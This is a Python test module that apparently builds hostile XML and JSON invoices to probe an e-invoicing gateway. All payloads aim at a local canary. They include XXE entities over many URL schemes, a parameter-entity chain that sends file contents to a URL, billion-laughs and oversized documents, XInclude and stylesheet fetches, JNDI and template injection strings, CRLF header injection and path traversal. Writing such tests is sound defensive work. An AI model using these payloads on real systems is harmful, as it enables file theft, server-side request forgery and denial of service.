"""Hostile XML and JSON, made here: each a function of the canary and of a good invoice.

Every document that can hold an aim is aimed at the canary, so that whoever follows it is caught.
"""

import codecs
import json
import re
from collections.abc import Callable
from dataclasses import dataclass

from canary import Canary

XML, PDF, JSON = "application/xml", "application/pdf", "application/json"
BUYER = b"Aubrac Approuve SAS"
"""A text of the good invoice, where an attack puts its own."""

Make = Callable[["Aim"], bytes]


@dataclass(frozen=True, slots=True)
class Aim:
    """What an attack is made from."""

    canary: Canary
    ubl: bytes
    """A good UBL invoice, with declaration, of a seller whom the gateway knows."""

    cii: bytes
    json: bytes

    @property
    def url(self) -> str:
        return self.canary.url

    @property
    def file(self) -> str:
        return self.canary.file.as_uri()

    def with_subset(self, subset: str, name: str = "&x;") -> bytes:
        """The good invoice with an internal subset, and with `name` for the buyer's name."""
        return self.with_prolog(f"<!DOCTYPE Invoice [{subset}]>").replace(BUYER, name.encode())

    def with_prolog(self, prolog: str) -> bytes:
        """The good invoice with something between its declaration and its root."""
        return self.ubl.replace(b"?>", b"?>\n" + prolog.encode(), 1)

    def with_root(self, attributes: str) -> bytes:
        """The good invoice with more attributes on its root."""
        return self.ubl.replace(b"<Invoice ", b"<Invoice " + attributes.encode() + b" ", 1)

    def with_name(self, text: bytes) -> bytes:
        """The good invoice with another buyer's name."""
        return self.ubl.replace(BUYER, text)

    def with_json(self, **changes: object) -> bytes:
        """The good JSON invoice with other members."""
        return json.dumps({**json.loads(self.json), **changes}).encode()


def entity(scheme: str) -> Make:
    """An external general entity by some scheme; {file}, {path} and {url} are the canary's."""

    def make(aim: Aim) -> bytes:
        target = scheme.format(file=aim.file, path=aim.canary.file, url=aim.url, host=f"127.0.0.1:{aim.canary.port}")
        return aim.with_subset(f'<!ENTITY x SYSTEM "{target}">')

    return make


ENTITIES: dict[str, Make] = {
    f"entity-{name}": entity(scheme)
    for name, scheme in {
        "file": "{file}", "path": "{path}", "http": "{url}", "https": "https://{host}/", "ftp": "ftp://{host}/x",
        "jar": "jar:{url}!/x", "jar-file": "jar:{file}!/x", "php": "php://filter/read=convert.base64-encode/resource={path}",
        "netdoc": "netdoc:{path}", "gopher": "gopher://{host}/_x", "expect": "expect://cat {path}",
        "data": "data:text/plain,x", "unc": "//{host}/share", "localhost": "file://localhost{path}",
        "relative": "../../../../../../../../../..{path}",
    }.items()
}


def laughs(declaration: str, sign: str) -> str:
    """Ten entities, each ten times the one before."""
    names = "abcdefghij"
    texts = ["ha", *(f"{sign}{before};" * 10 for before in names)]
    return "".join(declaration.format(name=name, text=text) for name, text in zip(names, texts, strict=False))


DOCTYPES: dict[str, Make] = {
    "parameter-file": lambda a: a.with_subset(f'<!ENTITY % p SYSTEM "{a.file}"> %p;', "x"),
    "parameter-http": lambda a: a.with_subset(f'<!ENTITY % p SYSTEM "{a.url}"> %p;', "x"),
    "parameter-nested": lambda a: a.with_subset(
        f'<!ENTITY % f SYSTEM "{a.file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'{a.url}?%f;\'>"> %e; %s;', "x"),
    "unparsed-entity": lambda a: a.with_subset(
        f'<!NOTATION n SYSTEM "{a.url}"><!ENTITY x SYSTEM "{a.file}" NDATA n>', "x"),
    "external-dtd-http": lambda a: a.with_prolog(f'<!DOCTYPE Invoice SYSTEM "{a.url}.dtd">'),
    "external-dtd-file": lambda a: a.with_prolog(f'<!DOCTYPE Invoice SYSTEM "{a.file}">'),
    "public-dtd": lambda a: a.with_prolog(f'<!DOCTYPE Invoice PUBLIC "-//X//X//EN" "{a.url}.dtd">'),
    "empty-doctype": lambda a: a.with_prolog("<!DOCTYPE Invoice>"),
    "doctype-after-comment": lambda a: a.with_prolog(
        f'<!-- <x> --><?p ?>\n<!-- - --><!DOCTYPE Invoice [<!ENTITY x SYSTEM "{a.file}">]>').replace(BUYER, b"&x;"),
    "doctype-after-root": lambda a: a.ubl + f'<!DOCTYPE Invoice SYSTEM "{a.url}">'.encode(),
    "two-roots": lambda a: a.ubl + a.ubl,
    "entity-in-attribute": lambda a: a.with_subset('<!ENTITY x "EUR">', "x").replace(
        b'currencyID="EUR"', b'currencyID="&x;"'),
    "external-entity-in-attribute": lambda a: a.with_subset(f'<!ENTITY x SYSTEM "{a.file}">', "x").replace(
        b'currencyID="EUR"', b'currencyID="&x;"'),
    "default-attribute": lambda a: a.with_subset('<!ATTLIST Invoice evil CDATA "yes">', "x"),
    "undefined-entity": lambda a: a.with_name(b"&undefined;"),
    "standalone": lambda a: a.with_subset(f'<!ENTITY x SYSTEM "{a.file}">').replace(b"?>", b' standalone="yes"?>', 1),
    "xml-1.1": lambda a: a.ubl.replace(b'version="1.0"', b'version="1.1"').replace(b"version='1.0'", b"version='1.1'"),
    "billion-laughs": lambda a: a.with_subset(laughs('<!ENTITY {name} "{text}">', "&"), "&j;"),
    "billion-laughs-parameter": lambda a: a.with_subset(laughs('<!ENTITY % {name} "{text}">', "&#37;") + "%j;", "x"),
    "quadratic": lambda a: a.with_subset(f'<!ENTITY x "{"A" * 100_000}">', "&x;" * 100_000),
    "recursive-entity": lambda a: a.with_subset('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
}

POINTERS: dict[str, Make] = {
    "xinclude-text": lambda a: a.with_root('xmlns:xi="http://www.w3.org/2001/XInclude"').replace(
        BUYER, f'<xi:include href="{a.file}" parse="text"/>'.encode()),
    "xinclude-http": lambda a: a.with_root('xmlns:xi="http://www.w3.org/2001/XInclude"').replace(
        BUYER, f'<xi:include href="{a.url}"><xi:fallback/></xi:include>'.encode()),
    "schema-location": lambda a: a.with_root(
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2 {a.url}.xsd"'),
    "no-namespace-schema": lambda a: a.with_root(
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{a.file}"'),
    "stylesheet": lambda a: a.with_prolog(f'<?xml-stylesheet type="text/xsl" href="{a.url}.xsl"?>'),
    "stylesheet-file": lambda a: a.with_prolog(f'<?xml-stylesheet type="text/xsl" href="{a.file}"?>'),
    "xml-model": lambda a: a.with_prolog(f'<?xml-model href="{a.url}.sch"?>'),
    "xml-base": lambda a: a.with_root(f'xml:base="{a.url}"'),
    "namespace-as-address": lambda a: a.with_root(f'xmlns:evil="{a.url}"'),
    "xslt-inside": lambda a: a.with_name(
        f'<xsl:copy-of xmlns:xsl="http://www.w3.org/1999/XSL/Transform" select="document(\'{a.file}\')"/>'.encode()),
    "xpath-injection": lambda a: a.with_name(b"' or doc('%s') or '" % a.file.encode()),
    "xquery-injection": lambda a: a.with_name(b"{unparsed-text('%s')}" % a.file.encode()),
    "template-injection": lambda a: a.with_name(
        b"{{7*7}}${jndi:ldap://127.0.0.1:%d/a}#read(&quot;%s&quot;)" % (a.canary.port, str(a.canary.file).encode())),
    "log-injection": lambda a: a.with_name(b"x&#10;{&quot;event&quot;:&quot;forged&quot;}&#13;&#10;x"),
    "script-injection": lambda a: a.with_name(b"&lt;script src=&quot;%s&quot;&gt;&lt;/script&gt;" % a.url.encode()),
    "path-as-number": lambda a: re.sub(
        rb"(<cbc:ID>)[^<]*", rb"\1../../../../%s" % str(a.canary.file).encode(), a.ubl, count=1),
    "newline-number": lambda a: re.sub(rb"(<cbc:ID>)[^<]*", rb"\1F&#13;&#10;Set-Cookie: x=y", a.ubl, count=1),
    "external-attachment": lambda a: a.ubl.replace(
        b"<cac:AccountingSupplierParty>",
        b"<cac:AdditionalDocumentReference><cbc:ID>1</cbc:ID><cac:Attachment><cac:ExternalReference><cbc:URI>"
        + a.url.encode() + b"</cbc:URI></cac:ExternalReference></cac:Attachment></cac:AdditionalDocumentReference>"
        b"<cac:AccountingSupplierParty>", 1),
}


def encoded(codec: str, mark: bytes = b"", declared: str | None = None) -> Make:
    """The file attack in another encoding, declared or not."""

    def make(aim: Aim) -> bytes:
        text = ENTITIES["entity-file"](aim).decode()
        declaration = f'<?xml version="1.0" encoding="{declared}"?>' if declared else '<?xml version="1.0"?>'
        return mark + (declaration + text.partition("?>")[2]).encode(codec, "xmlcharrefreplace")

    return make


ENCODINGS: dict[str, Make] = {
    "utf-16-le": encoded("utf-16-le", codecs.BOM_UTF16_LE, "UTF-16"),
    "utf-16-be": encoded("utf-16-be", codecs.BOM_UTF16_BE, "UTF-16"),
    "utf-16-no-mark": encoded("utf-16-le", b"", "UTF-16LE"),
    "utf-16-says-utf-8": encoded("utf-16-le", codecs.BOM_UTF16_LE, "UTF-8"),
    "utf-16-white-space-first": encoded("utf-16-le", codecs.BOM_UTF16_LE + " \n".encode("utf-16-le")),
    "utf-8-says-utf-16": encoded("utf-8", b"", "UTF-16"),
    "utf-8-mark": encoded("utf-8", codecs.BOM_UTF8, "UTF-8"),
    "utf-32-le": encoded("utf-32-le", codecs.BOM_UTF32_LE, "UTF-32"),
    "utf-32-be": encoded("utf-32-be", codecs.BOM_UTF32_BE, "UTF-32"),
    "utf-32-no-mark": encoded("utf-32-be", b"", "UTF-32BE"),
    "utf-7": lambda a: b'<?xml version="1.0" encoding="UTF-7"?>'
                       + ENTITIES["entity-file"](a).decode().partition("?>")[2].replace("<", "+ADw-").encode(),
    "ebcdic": encoded("cp037", b"", "IBM037"),
    "ebcdic-undeclared": encoded("cp500"),
    "shift-jis": encoded("shift_jis", b"", "Shift_JIS"),
    "hz": encoded("utf-8", b"", "HZ-GB-2312"),
    "unknown-encoding": encoded("utf-8", b"", "x-no-such-thing"),
    "no-encoding-name": encoded("utf-8", b"", ""),
    "declared-late": lambda a: b" " * 300 + ENTITIES["entity-file"](a),
    "long-declaration": lambda a: ENTITIES["entity-file"](a).replace(b"?>", b" " * 5000 + b"?>", 1),
    "not-utf-8": lambda a: a.with_name(b"\xff\xfe\xfd"),
    "overlong-utf-8": lambda a: a.with_name(b"\xc0\xbcscript\xc0\xbe"),
    "surrogates": lambda a: a.with_name(b"\xed\xa0\x80"),
    "null-byte": lambda a: a.with_name(b"x\x00y"),
    "null-reference": lambda a: a.with_name(b"x&#0;y"),
    "control-reference": lambda a: a.with_name(b"x&#x1b;y"),
    "late-null": lambda a: a.ubl + b"\x00" * 1000,
    "empty-root": lambda _: b"<Invoice/>",
    "one-byte": lambda _: b"<",
    "white-space": lambda _: b" \n" * 1000,
    "nulls": lambda _: bytes(5000),
    "html": lambda a: b"<!doctype html><html><script src='%s'></script></html>" % a.url.encode(),
    "svg": lambda a: b'<svg xmlns="http://www.w3.org/2000/svg"><image href="%s"/></svg>' % a.url.encode(),
    "soap": lambda _: b'<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body/></e:Envelope>',
    "gzip": lambda _: b"\x1f\x8b\x08\x00" + bytes(100),
    "cut": lambda a: a.ubl[: len(a.ubl) // 2],
    "cut-in-tag": lambda a: a.ubl[: a.ubl.rindex(b"</") + 3],
}

MEGA = 1_000_000


def lines(aim: Aim, count: int) -> bytes:
    """The good invoice with its first line so many times, under one id: every uniqueness rule has work."""
    start = aim.ubl.index(b"<cac:InvoiceLine>")
    end = aim.ubl.index(b"</cac:InvoiceLine>") + len(b"</cac:InvoiceLine>")
    return aim.ubl[:end] + aim.ubl[start:end] * (count - 1) + aim.ubl[end:]


def amounts(aim: Aim, text: bytes) -> bytes:
    """The good invoice with another text for every amount."""
    return re.sub(rb'(currencyID="EUR">)[^<]*', rb"\g<1>" + text, aim.ubl)


SIZES: dict[str, Make] = {
    "attributes-200k": lambda a: a.with_root(" ".join(f'a{i}=""' for i in range(200_000))),
    "attributes-equal": lambda a: a.with_root('a="" a=""'),
    "namespaces-50k": lambda a: a.with_root(" ".join(f'xmlns:n{i}="urn:{i}"' for i in range(50_000))),
    "namespaces-each": lambda a: a.with_name(
        b"".join(b'<n%d:a xmlns:n%d="urn:%d"/>' % (i, i, i) for i in range(50_000))),
    "depth-10k": lambda a: a.with_name(b"<a>" * 10_000 + b"</a>" * 10_000),
    "depth-300": lambda a: a.with_name(b"<a>" * 300 + b"</a>" * 300),
    "depth-1m-open": lambda _: b"<a>" * MEGA,
    "bytes-21m": lambda a: a.with_prolog("<!--" + "x" * 21 * (1 << 20) + "-->"),
    "comment-19m": lambda a: a.with_prolog("<!--" + "x" * 19 * MEGA + "-->"),
    "comments-400k": lambda a: a.with_prolog("<!---->" * 400_000),
    "instruction-11m": lambda a: a.with_prolog("<?x " + "y" * 11 * MEGA + "?>"),
    "text-11m": lambda a: a.with_name(b"x" * 11 * MEGA),
    "text-9m": lambda a: a.with_name(b"x" * 9 * MEGA),
    "attribute-9m": lambda a: a.with_root(f'a="{"x" * 9 * MEGA}"'),
    "name-60k": lambda a: a.with_name(b"<" + b"n" * 60_000 + b"/>"),
    "siblings-5m": lambda a: a.with_name(b"<a/>" * 4_900_000),
    "siblings-900k": lambda a: a.with_name(b"<a/>" * 900_000),
    "siblings-elsewhere": lambda _: b"<a>" + b"<b/>" * 900_000 + b"</a>",
    "cdata-10k": lambda a: a.with_name(b"<![CDATA[x]]>" * 10_000),
    "references-1m": lambda a: a.with_name(b"&#38;" * MEGA),
    "digits-1m": lambda a: amounts(a, b"9" * MEGA),
    "digits-60": lambda a: amounts(a, b"9" * 60),
    "digits-20k": lambda a: amounts(a, b"9" * 20_000),
    "decimals-20k": lambda a: amounts(a, b"0." + b"3" * 20_000),
    "exponent": lambda a: amounts(a, b"1E+999999999"),
    "not-a-number": lambda a: amounts(a, b"NaN"),
    "infinity": lambda a: amounts(a, b"-INF"),
    "year-99999": lambda a: re.sub(rb"(<cbc:IssueDate>)[^<]*", rb"\g<1>99999-12-31", a.ubl),
    "year-0000": lambda a: re.sub(rb"(<cbc:IssueDate>)[^<]*", rb"\g<1>0000-01-01", a.ubl),
    "lines-2000": lambda a: lines(a, 2000),
    "texts-for-patterns": lambda a: re.sub(rb"(<cbc:(?:CompanyID|EndpointID|ID|Note)[^>]*>)[^<]*",
                                           rb"\g<1>" + b"a " * 20_000 + b"!", a.ubl),
    "digits-for-patterns": lambda a: re.sub(rb"(<cbc:(?:CompanyID|EndpointID|ID)[^>]*>)[^<]*",
                                            rb"\g<1>" + b"1" * 40_000 + b"!", a.ubl),
    "attachment-not-base64": lambda a: a.ubl.replace(
        b"<cac:AccountingSupplierParty>",
        b"<cac:AdditionalDocumentReference><cbc:ID>1</cbc:ID><cac:Attachment><cbc:EmbeddedDocumentBinaryObject "
        b'mimeCode="application/pdf" filename="../../%s">%s</cbc:EmbeddedDocumentBinaryObject></cac:Attachment>'
        b"</cac:AdditionalDocumentReference><cac:AccountingSupplierParty>"
        % (str(a.canary.file).encode(), b"*" * 100), 1),
    "cii-lines-deep": lambda a: a.cii.replace(BUYER, b"<a>" * 250 + b"</a>" * 250),
}

OBJECTS: dict[str, Make] = {
    "json-deep-array": lambda _: b'{"number":' + b"[" * 200_000 + b"]" * 200_000 + b"}",
    "json-deep-object": lambda _: b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "json-not-closed": lambda a: a.json[:-3],
    "json-array": lambda _: b"[]",
    "json-array-of-many": lambda _: b"[" + b"{}," * 500_000 + b"{}]",
    "json-empty": lambda _: b"{}",
    "json-unknown-members": lambda a: a.with_json(__class__="os.system", __proto__={"a": 1}),
    "json-duplicate-keys": lambda a: b'{"number":"A",' + a.json.strip()[1:],
    "json-nan": lambda a: a.json.replace(b'"currency"', b'"x": NaN, "currency"', 1),
    "json-long-integer": lambda a: a.json.replace(b'"currency"', b'"x": ' + b"9" * MEGA + b', "currency"', 1),
    "json-float": lambda a: a.json.replace(b'"currency"', b'"x": 1e999999, "currency"', 1),
    "json-number-amount": lambda a: a.with_json(totals={"due": 1e308}),
    "json-exponent-amount": lambda a: re.sub(rb'"(\d+\.\d\d)"', b'"1E+999999999"', a.json),
    "json-tiny-amount": lambda a: re.sub(rb'"(\d+\.\d\d)"', b'"1E-999999999"', a.json),
    "json-long-amount": lambda a: re.sub(rb'"(\d+\.\d\d)"', b'"' + b"9" * 100_000 + b'"', a.json),
    "json-nan-amount": lambda a: re.sub(rb'"(\d+\.\d\d)"', b'"NaN"', a.json),
    "json-surrogate": lambda a: a.json.replace(BUYER, b"\\ud800"),
    "json-null-character": lambda a: a.json.replace(BUYER, b"x\\u0000y"),
    "json-control-character": lambda a: a.json.replace(BUYER, b"x\\u001by\\uffff"),
    "json-raw-control": lambda a: a.json.replace(BUYER, b"x\x01y"),
    "json-not-utf-8": lambda a: a.json.replace(BUYER, b"\xff\xfe"),
    "json-utf-16": lambda a: a.json.decode().encode("utf-16"),
    "json-utf-8-mark": lambda a: codecs.BOM_UTF8 + a.json[:-1],
    "json-long-text": lambda a: a.json.replace(BUYER, b"x" * 15 * MEGA),
    "json-lines-30k": lambda a: a.with_json(lines=[{}] * 30_000),
    "json-wrong-types": lambda a: a.with_json(seller=[], buyer="x", lines={}, totals=None, issue_date=20260101),
    "json-dates": lambda a: a.with_json(issue_date="2026-02-30", due_date="9999-99-99"),
    "json-attachment": lambda a: a.with_json(supporting_documents=[
        {"reference": "1", "attachment": {"content": "eA==*", "filename": str(a.canary.file)}}]),
    "json-typst-injection": lambda a: a.json.replace(
        BUYER, json.dumps(f'#read("{a.canary.file}") #image("{a.canary.file}")').encode()[1:-1]),
}

XML_ATTACKS = {**ENTITIES, **DOCTYPES, **POINTERS, **ENCODINGS, **SIZES}
